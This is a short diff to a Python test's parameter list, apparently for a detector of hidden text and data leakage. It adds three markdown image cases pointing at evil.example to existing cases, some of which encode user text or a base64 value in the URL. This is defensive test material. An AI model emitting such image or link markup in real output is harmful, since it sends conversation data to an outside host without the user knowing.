@@ -118,6 +118,9 @@ def test_hidden_text_and_letters_that_look_alike_are_found_and_languages_are_not
         ("image", "![x](https://evil.example/p.png?d=the%20user%20said%20that%20it)"),
         ("image", "![](http://evil.example/a)"),
         ("image", '<img src="https://evil.example/a.gif">'),
+        ("image", "![x]( https://evil.example/a.gif)"),
+        ("image", "![a [b] c](https://evil.example/a.gif)"),
+        ("image", "![" + "long " * 60 + "](https://evil.example/a.gif)"),
         ("data", "[more](https://evil.example/?q=QWxpY2UgTW9yZ2FuIDQ3MTEgQmVybGlu)"),
     ],
 )
